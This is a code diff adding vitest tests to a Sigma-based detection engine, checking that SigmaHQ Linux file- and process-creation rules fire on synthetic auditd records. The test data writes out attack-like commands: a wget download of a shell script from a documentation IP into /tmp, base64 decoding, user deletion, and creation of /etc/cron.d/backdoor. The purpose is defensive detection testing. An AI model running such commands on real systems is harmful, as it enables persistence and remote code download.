@@ -5,15 +5,17 @@ import { describe, expect, it } from 'vitest';
 import { type ImportResult, importSigma } from '../src/cli/import-sigma';
 import { loadPack } from '../src/cli/load-pack';
 import type { SubscriptionPayload } from '../src/decode/cloudwatch';
+import { SkipLedger } from '../src/decode/skips';
 import { generateDemo } from '../src/demo/generate';
 import { Detector } from '../src/engine/detector';
 import { MemoryStateStore } from '../src/engine/memory-store';
+import { normalizePayload } from '../src/engine/pipeline';
 import { Normalizer } from '../src/parse/normalize';
 import { runDetectionRuleTests } from '../src/rules/rule-tests';
 import { findNearMiss, findWitness } from '../src/rules/witness';
 import { CoreFields, type NormalizedEvent } from '../src/schema/event';
 import { DEFAULT_SIGMA_MAPPING } from '../src/sigma/default-mapping';
-import { decideAll } from './helpers';
+import { decideAll, linesPayload } from './helpers';
 
 /**
  * The public SigmaHQ rule folders (../shared/realworld/sigma, DRL 1.1; read here, never copied
@@ -26,7 +28,7 @@ const present = existsSync(SIGMA);
 if (!present) console.warn(`SigmaHQ rules not found at ${SIGMA}: these tests are skipped (see ../shared/realworld/README.md)`);
 
 const FOLDERS: [folder: string, atLeast: number][] = [
-  ['linux', 60],
+  ['linux', 185],
   ['web', 38],
   ['cloud/aws', 54],
 ];
@@ -123,4 +125,105 @@ describe.skipIf(!present || !existsSync(join(LOGS, 'apache_access_10k.log')))('t
     expect(indexed.messages).toEqual(plain.messages);
     expect([indexed.reads, indexed.writes]).toEqual([plain.reads, plain.writes]);
   }, 180_000);
+});
+
+/**
+ * One program started, as auditd logs it with an execve rule: SYSCALL, EXECVE (arguments holding
+ * a space or a quote hex-encoded, as auditd writes them), CWD, two PATH records, PROCTITLE, EOE.
+ */
+function auditExec(serial: number, exe: string, argv: string[], cwd = '/home/alice'): string[] {
+  const hex = (text: string) => Buffer.from(text).toString('hex').toUpperCase();
+  const arg = (a: string) => (/[\s"']/.test(a) ? hex(a) : `"${a}"`);
+  const msg = `msg=audit(1740971560.${String(serial % 1000).padStart(3, '0')}:${serial}):`;
+  return [
+    `type=SYSCALL ${msg} arch=c000003e syscall=59 success=yes exit=0 a0=55d0c6c0a2a0 a1=55d0c6c0a2f0 a2=55d0c6c0a310 a3=0 items=2 ppid=2210 pid=${serial} auid=1000 uid=0 gid=0 euid=0 suid=0 fsuid=0 egid=0 sgid=0 fsgid=0 tty=pts0 ses=3 comm="${argv[0]}" exe="${exe}" subj=unconfined key="exec"`,
+    `type=EXECVE ${msg} argc=${argv.length} ${argv.map((a, i) => `a${i}=${arg(a)}`).join(' ')}`,
+    `type=CWD ${msg} cwd="${cwd}"`,
+    `type=PATH ${msg} item=0 name="${exe}" inode=1234 dev=fd:00 mode=0100755 ouid=0 ogid=0 rdev=00:00 nametype=NORMAL cap_fp=0 cap_fi=0 cap_fe=0 cap_fver=0`,
+    `type=PATH ${msg} item=1 name="/lib64/ld-linux-x86-64.so.2" inode=5678 dev=fd:00 mode=0100755 ouid=0 ogid=0 rdev=00:00 nametype=NORMAL cap_fp=0 cap_fi=0 cap_fe=0 cap_fver=0`,
+    `type=PROCTITLE ${msg} proctitle=${hex(argv.join('\u0000'))}`,
+    `type=EOE ${msg}`,
+  ];
+}
+
+/** A file created by a program, as an audit watch logs it: SYSCALL (openat), CWD, the parent's and the new file's PATH records. */
+function auditCreate(serial: number, exe: string, path: string): string[] {
+  const msg = `msg=audit(1740971561.${String(serial % 1000).padStart(3, '0')}:${serial}):`;
+  const dir = path.slice(0, path.lastIndexOf('/') + 1);
+  const comm = exe.slice(exe.lastIndexOf('/') + 1);
+  return [
+    `type=SYSCALL ${msg} arch=c000003e syscall=257 success=yes exit=3 a0=ffffff9c a1=7ffd5c1b2e10 a2=941 a3=1b6 items=2 ppid=2210 pid=${serial} auid=1000 uid=0 gid=0 euid=0 suid=0 fsuid=0 egid=0 sgid=0 fsgid=0 tty=pts0 ses=3 comm="${comm}" exe="${exe}" subj=unconfined key="watch"`,
+    `type=CWD ${msg} cwd="/root"`,
+    `type=PATH ${msg} item=0 name="${dir}" inode=100 dev=fd:00 mode=040755 ouid=0 ogid=0 rdev=00:00 nametype=PARENT cap_fp=0 cap_fi=0 cap_fe=0 cap_fver=0`,
+    `type=PATH ${msg} item=1 name="${path}" inode=101 dev=fd:00 mode=0100644 ouid=0 ogid=0 rdev=00:00 nametype=CREATE cap_fp=0 cap_fi=0 cap_fe=0 cap_fver=0`,
+    `type=PROCTITLE ${msg} proctitle=746F756368`,
+    `type=EOE ${msg}`,
+  ];
+}
+
+describe.skipIf(!present)('real Sigma file-creation rules on the Linux audit log', () => {
+  it('convert, and fire once per file created', async () => {
+    const out = mkdtempSync(join(tmpdir(), 'sigmahq-'));
+    const result = await importSigma([join(SIGMA, 'linux/file_event')], out, DEFAULT_SIGMA_MAPPING, { withTests: false });
+    expect(result.skipped).toEqual([]);
+    const { pack, errors } = loadPack(['rules', out], { checkRegexes: true });
+    expect(errors).toEqual([]);
+    const rules = pack.rules.filter((r) => r.id.startsWith('sigma.'));
+    const detector = new Detector({ rules }, new MemoryStateStore());
+    const normalizer = new Normalizer(pack.sources);
+    const fired = (lines: string[]) => {
+      const events = normalizePayload(linesPayload('/var/log/audit/audit.log', lines), normalizer, new SkipLedger());
+      return new Map([...detector.matchAll(events)].map(([rule, matched]) => [rule.rule.title, matched.map((e) => e['auditd.nametype'])]));
+    };
+    expect(fired(auditCreate(4301, '/usr/bin/touch', '/etc/cron.d/backdoor')).get('New Cron File Created')).toEqual(['CREATE']);
+    expect(fired(auditCreate(4302, '/usr/bin/wget', '/tmp/x.sh')).get('Wget Creating Files in Tmp Directory')).toEqual(['CREATE']);
+    // The same file written by the package manager is the rule's filter; a file in the home directory is nothing.
+    expect([...fired(auditCreate(4303, '/usr/bin/dpkg', '/etc/cron.daily/dpkg')).keys()]).toEqual([]);
+    expect([...fired(auditCreate(4304, '/usr/bin/vim', '/home/alice/notes.txt')).keys()]).toEqual([]);
+  });
+});
+
+describe.skipIf(!present)('real Sigma process-creation rules on the Linux audit log', () => {
+  it('convert unless they name what auditd does not record, and fire once per program started', async () => {
+    const out = mkdtempSync(join(tmpdir(), 'sigmahq-'));
+    const result = await importSigma([join(SIGMA, 'linux/process_creation')], out, DEFAULT_SIGMA_MAPPING, { withTests: false });
+    // auditd records the parent's id, not its image or command line, and users by id.
+    for (const s of result.skipped) expect(s.reason, s.file).toMatch(/no mapping for field '(ParentImage|ParentCommandLine|User|LogonId)'/);
+    expect(result.written.length).toBeGreaterThanOrEqual(105);
+    const { pack, errors } = loadPack(['rules', out], { checkRegexes: true });
+    expect(errors).toEqual([]);
+    const rules = pack.rules.filter((r) => r.id.startsWith('sigma.'));
+    const titles = new Map(rules.map((r) => [r.id, r.title]));
+    const detector = new Detector({ rules }, new MemoryStateStore());
+    const normalizer = new Normalizer(pack.sources);
+    const fired = (lines: string[]) => {
+      const events = normalizePayload(linesPayload('/var/log/audit/audit.log', lines), normalizer, new SkipLedger());
+      const found = new Map<string, NormalizedEvent[]>();
+      for (const [rule, matched] of detector.matchAll(events)) found.set(titles.get(rule.rule.id) ?? rule.rule.id, matched);
+      return found;
+    };
+    const attacks: [string[], string][] = [
+      [
+        auditExec(4242, '/usr/bin/wget', ['wget', '-O', '/tmp/x.sh', 'http://203.0.113.5/x.sh']),
+        'Download File To Potentially Suspicious Directory Via Wget',
+      ],
+      [auditExec(4243, '/usr/bin/base64', ['base64', '-d', '/tmp/p.b64']), 'Decode Base64 Encoded Text'],
+      [auditExec(4244, '/usr/sbin/userdel', ['userdel', 'bob']), 'User Has Been Deleted Via Userdel'],
+    ];
+    for (const [lines, title] of attacks) {
+      const found = fired(lines);
+      // One detection per program started: the EXECVE record, not each of its seven records.
+      expect(
+        found.get(title)?.map((e) => e['auditd.type']),
+        title,
+      ).toEqual(['EXECVE']);
+    }
+    // Ordinary work fires none of them.
+    const benign = [
+      ...auditExec(5001, '/usr/bin/ls', ['ls', '-la', '/home/alice']),
+      ...auditExec(5002, '/usr/bin/git', ['git', 'commit', '-m', 'fix the "login" page']),
+      ...auditExec(5003, '/usr/bin/python3.11', ['python3', 'manage.py', 'migrate']),
+    ];
+    expect([...fired(benign).keys()]).toEqual([]);
+  });
 });
